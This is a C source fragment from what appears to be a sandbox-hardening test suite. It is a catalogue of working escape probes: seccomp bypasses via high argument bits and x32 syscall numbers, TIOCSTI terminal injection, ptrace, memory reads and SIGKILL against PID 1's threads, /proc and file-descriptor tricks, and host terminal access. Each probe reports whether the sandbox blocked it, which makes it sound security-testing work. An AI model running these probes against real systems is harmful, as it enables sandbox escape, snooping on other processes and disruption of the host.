// More ways out, after what was found in other sandboxes and kernels. It is a part of attack.c.
#include <linux/fs.h>
#include <netinet/in.h>
#include <netinet/tcp.h>

// Arguments whose upper half a filter does not look at, or looks at where the kernel does not.
static int pty(void) {
	int m = posix_openpt(O_RDWR | O_NOCTTY);
	if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) return -1;
	int s = open(ptsname(m), O_RDWR | O_NOCTTY);
	setsid();
	ioctl(s, TIOCSCTTY, 0);
	return s;
}
static int tiocsti_high(void) { int s = pty(); return s < 0 ? absent() : done(syscall(SYS_ioctl, s, 0x7700000000UL | TIOCSTI, "x")); }
static int tiocsti_x32_number(void) { int s = pty(); return s < 0 ? absent() : done(syscall(514, s, TIOCSTI, "x")); }
static int tiocsetd(void) { int s = pty(), n = 0; return s < 0 ? absent() : done(syscall(SYS_ioctl, s, TIOCSETD, &n)); }
static int tioclinux(void) { int s = pty(); char c = 3; return s < 0 ? absent() : done(syscall(SYS_ioctl, s, 0x541c, &c)); }
static int clone_high(void) {
	long r = syscall(SYS_clone, 0x3300000000UL | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (r == 0) _exit(0);
	return done(r);
}
static int clone_time(void) {
	long r = syscall(SYS_unshare, 0x80);
	return done(r);
}
static int socket_high(void) { return done(syscall(SYS_socket, 0x100000000UL | 38 /* AF_ALG */, SOCK_SEQPACKET, 0)); }
static int ptrace_x32_number(void) { return done(syscall(521, PTRACE_SEIZE, 1, 0, 0)); }
static int kexec_x32_number(void) { return done(syscall(528, 0, 0, 0, 0)); }

// Families and protocols of sockets that load parts of the kernel.
static int s_families(void) {
	static const int families[] = {3, 4, 5, 6, 9, 11, 12, 15, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32, 33, 34, 35, 36, 37, 39, 41, 42, 43, 44, 45};
	static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_RDM};
	for (unsigned i = 0; i < sizeof families / sizeof *families; i++)
		for (unsigned j = 0; j < sizeof types / sizeof *types; j++)
			if (socket(families[i], types[j], 0) >= 0) { printf("family %d\n", families[i]); return done(0); }
	errno = EPERM;
	return done(-1);
}
static int protocol(int family) {
	int fd = socket(family, atoi(a2), atoi(a1));
	if (fd < 0 && (errno == EPROTONOSUPPORT || errno == ESOCKTNOSUPPORT || errno == EAFNOSUPPORT)) return absent();
	return done(fd);
}
static int s_protocol(void) { return protocol(AF_INET); }
static int s_protocol6(void) { return protocol(AF_INET6); }
static int s_ulp(void) { // a name that no module has: the kernel looks for it where the call is not refused
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	long r = setsockopt(fd, IPPROTO_TCP, TCP_ULP, "none-such", 9);
	if (r < 0 && errno == EPERM) return done(-1);
	return done(0);
}
static int s_transparent(void) { int on = 1; return done(setsockopt(socket(AF_INET, SOCK_STREAM, 0), IPPROTO_IP, 19, &on, sizeof on)); }
static int s_mark(void) { int n = 1; return done(setsockopt(socket(AF_INET, SOCK_STREAM, 0), SOL_SOCKET, SO_MARK, &n, sizeof n)); }
static int s_netlink(void) { // every protocol but NETLINK_ROUTE
	for (int p = 1; p < 32; p++)
		if (socket(AF_NETLINK, SOCK_RAW, p) >= 0) { printf("protocol %d\n", p); return done(0); }
	errno = EPERM;
	return done(-1);
}
static int address_add(void) {
	struct { struct nlmsghdr h; struct { unsigned char family, prefix, flags, scope; unsigned index; } a; char attr[8]; } m = {{sizeof m, RTM_NEWADDR, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0}, {AF_INET, 32, 0, 0, 1}, {8, 0, 2, 0, 203, 0, 113, 7}};
	struct { struct nlmsghdr h; struct nlmsgerr e; char rest[512]; } in;
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (fd < 0 || send(fd, &m, sizeof m, 0) < 0 || recv(fd, &in, sizeof in, 0) < 0) return done(-1);
	errno = -in.e.error;
	return done(in.e.error == 0 ? 0 : -1);
}

// What a file that is shown read-only lets a program do to it, or to who uses it, by a descriptor.
static int shown(void) { return open(a1, O_RDONLY | O_CLOEXEC); }
static int fd_chmod(void) { struct stat s; int fd = shown(); fstat(fd, &s); return done(fchmod(fd, s.st_mode & 07777)); }
static int fd_chown(void) { int fd = shown(); return done(fchown(fd, getuid(), getgid())); }
static int fd_times(void) { struct stat s; int fd = shown(); fstat(fd, &s); struct timespec t[2] = {s.st_atim, s.st_mtim}; return done(futimens(fd, t)); }
static int fd_flags(void) { int fd = shown(), f = 0; if (ioctl(fd, FS_IOC_GETFLAGS, &f) != 0) return absent(); return done(ioctl(fd, FS_IOC_SETFLAGS, &f)); }
static int fd_again(void) { char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", shown()); return writable(p); }
static int fd_path_chmod(void) { struct stat s; int fd = open(a1, O_PATH); fstat(fd, &s); return done(syscall(452, fd, "", s.st_mode & 07777, AT_EMPTY_PATH)); }
static int fd_link(void) { // a name of one's own for a file that is shown
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", shown());
	unlink("/tmp/atk-fd");
	long r = linkat(AT_FDCWD, p, AT_FDCWD, "/tmp/atk-fd", AT_SYMLINK_FOLLOW);
	int e = errno;
	unlink("/tmp/atk-fd");
	errno = e;
	return done(r);
}
static int lease(void) { int fd = shown(); long r = fcntl(fd, F_SETLEASE, F_RDLCK); if (r == 0) fcntl(fd, F_SETLEASE, F_UNLCK); return done(r); }
static int lease_high(void) { return done(syscall(SYS_fcntl, shown(), 0x900000000UL | F_SETLEASE, F_RDLCK)); }
static int verity(void) { char arg[128] = {1, 0, 0, 0, 1, 0, 0, 0, 0, 16}; return done(ioctl(shown(), _IOW('f', 133, char[128]), arg)); }
static int freeze(void) { return done(ioctl(open("/", O_RDONLY), _IOWR('X', 119, int), 0)); }

// Files of /proc that change who writes them, or how.
static int proc_self(void) { char p[128]; snprintf(p, sizeof p, "/proc/self/%s", a1); return writable(p); }
static int proc_thread(void) { char p[128]; snprintf(p, sizeof p, "/proc/thread-self/%s", a1); return writable(p); }

// The threads of the first process, of which one has the rights and the domain of the box's programs.
static int each_thread(int (*f)(int tid)) {
	DIR *d = opendir("/proc/1/task");
	struct dirent *e;
	int tried = 0;
	while (d && (e = readdir(d)))
		if (atoi(e->d_name) > 0) {
			tried++;
			if (f(atoi(e->d_name))) { printf("thread %s\n", e->d_name); return done(0); }
		}
	if (tried == 0) return absent();
	return done(-1);
}
static int seize(int tid) { return ptrace(PTRACE_SEIZE, tid, 0, 0) == 0; }
static int read_memory(int tid) {
	char c, p[64];
	snprintf(p, sizeof p, "/proc/1/task/%d/mem", tid);
	struct iovec l = {&c, 1}, r = {(void *)0x400000, 1};
	return open(p, O_RDONLY) >= 0 || process_vm_readv(tid, &l, 1, &r, 1, 0) > 0;
}
static int open_files(int tid) {
	static const char *names[] = {"fd/3", "fd/0", "root", "cwd", "exe", "ns/net", "environ", "maps", "syscall", "stack", "attr/current", "fdinfo/3"};
	for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
		char p[64], c;
		snprintf(p, sizeof p, "/proc/1/task/%d/%s", tid, names[i]);
		int fd = open(p, O_RDONLY | O_NONBLOCK);
		if (fd >= 0 && strcmp(names[i], "environ") && strcmp(names[i], "maps") && strcmp(names[i], "attr/current") && strcmp(names[i], "syscall") && strcmp(names[i], "stack")) return 1;
		if (fd >= 0 && read(fd, &c, 1) > 0 && strcmp(names[i], "attr/current")) return 1;
	}
	return 0;
}
static int kill_thread(int tid) { // whether it took it: it would be gone
	syscall(SYS_tgkill, 1, tid, SIGKILL);
	syscall(SYS_tgkill, 1, tid, SIGSTOP);
	usleep(20000);
	char p[64], text[512] = "";
	snprintf(p, sizeof p, "/proc/1/task/%d/stat", tid);
	int fd = open(p, O_RDONLY);
	if (fd < 0) return 1;
	if (read(fd, text, sizeof text - 1) < 0) return 0;
	char *state = strrchr(text, ')');
	return state && (state[2] == 'T' || state[2] == 'Z');
}
static int threads_seize(void) { return each_thread(seize); }
static int threads_memory(void) { return each_thread(read_memory); }
static int threads_files(void) { return each_thread(open_files); }
static int threads_kill(void) { return each_thread(kill_thread); }
static int init_exe_path(void) { return opened("/proc/1/exe", O_PATH); }
static int pidfd_ns(void) { return done(ioctl(syscall(SYS_pidfd_open, atoi(a1), 0), _IO(0xFF, 4))); } // PIDFD_GET_MNT_NAMESPACE
static int ns_owner(void) { return done(ioctl(open("/proc/self/ns/net", O_RDONLY), _IO(0xb7, 1)) >= 0 && ioctl(open("/proc/self/ns/user", O_RDONLY), _IO(0xb7, 2)) >= 0 ? 0 : -1); }

// Terminals and mounts of the host.
static int dev_tty(void) { return opened("/dev/tty", O_RDWR); }
static int dev_console(void) { return opened("/dev/console", O_RDWR); }
static int pts_host(void) {
	for (int i = 0; i < 32; i++) {
		char p[32];
		snprintf(p, sizeof p, "/dev/pts/%d", i);
		if (open(p, O_RDWR | O_NOCTTY) >= 0) return done(0);
	}
	return done(-1);
}
static int sys_there(void) { return done(access("/sys/kernel", F_OK)); }
static int handle(void) { char h[256] = {128}; int id; return done(syscall(SYS_name_to_handle_at, AT_FDCWD, "/", h, &id, 0)); }
static int list_mounts(void) {
	unsigned long long req[4] = {32, ~0ULL, 0, 0}, out[8];
	long r = syscall(458, req, out, 8, 0);
	return r < 0 && errno == ENOSYS ? absent() : done(r);
}
static int move_it(void) { return done(syscall(429, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0)); }
static int uring_enter(void) { return done(syscall(426, 0, 0, 0, 0, 0, 0)); }
static int old_abi(void) { return done(personality(8 /* PER_LINUX32 */)); }
static int no_zero_page(void) { return done(personality(0x0100000 /* MMAP_PAGE_ZERO */)); }
static int map_zero(void) { return done(mmap(NULL, 4096, PROT_READ, MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED ? -1 : 0); }

// starting watches for programs that are being started, which are still what starts them, and tries to get at what those
// have open, until a file says that it is enough.
static int starting(void) {
	long seen = 0;
	while (access("/tmp/enough", F_OK) != 0) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid()) continue;
			char p[64], to[64], c;
			struct iovec l = {&c, 1}, r = {(void *)0x400000, 1};
			snprintf(p, sizeof p, "/proc/%d/fd/3", pid);
			if (readlink(p, to, sizeof to) > 6 && memcmp(to, "socket", 6) == 0) return printf("%s\n", p), done(0);
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			if (readlink(p, to, sizeof to) > 0) continue;
			seen++;
			if (process_vm_readv(pid, &l, 1, &r, 1, 0) > 0) return printf("read memory of %d\n", pid), done(0);
		}
		closedir(d);
	}
	printf("%ld seen, ", seen);
	errno = EPERM;
	return done(-1);
}

#define NEW_ATTACKS \
	A(tiocsti_high), A(tiocsti_x32_number), A(tiocsetd), A(tioclinux), A(clone_high), A(clone_time), A(socket_high), A(ptrace_x32_number), \
	A(kexec_x32_number), A(s_families), A(s_protocol), A(s_protocol6), A(s_ulp), A(s_transparent), A(s_mark), A(s_netlink), A(address_add), \
	A(fd_chmod), A(fd_chown), A(fd_times), A(fd_flags), A(fd_again), A(fd_path_chmod), A(fd_link), A(lease), A(lease_high), \
	A(verity), A(freeze), A(proc_self), A(proc_thread), A(threads_seize), A(threads_memory), A(threads_files), A(threads_kill), \
	A(init_exe_path), A(pidfd_ns), A(ns_owner), A(dev_tty), A(dev_console), A(pts_host), A(sys_there), A(handle), A(list_mounts), A(move_it), \
	A(uring_enter), A(old_abi), A(no_zero_page), A(map_zero), A(starting),
